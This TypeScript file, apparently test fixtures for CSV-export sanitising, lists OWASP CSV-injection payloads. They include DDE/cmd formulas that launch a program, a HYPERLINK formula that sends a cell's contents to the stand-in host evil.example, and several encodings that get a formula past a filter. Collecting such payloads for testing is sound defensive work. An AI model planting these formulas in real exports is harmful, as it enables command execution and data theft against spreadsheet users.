/** OWASP CSV-injection payloads (https://owasp.org/www-community/attacks/CSV_Injection) and their usual variants. */
export const CSV_INJECTION_PAYLOADS = [
  "=cmd|' /C calc'!A0",
  '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
  '=DDE("cmd";"/C calc";"!A0")',
  '+1+1',
  '-2+3',
  '@SUM(1+1)',
  '\t=1',
  '\r=1',
  '\n=1',
  '"=1"',
  '＝1+1',
  'a,=1+1',
  'a";=1+1;"',
  'line one\r\n=1+1',
  "'=1+1",
] as const;
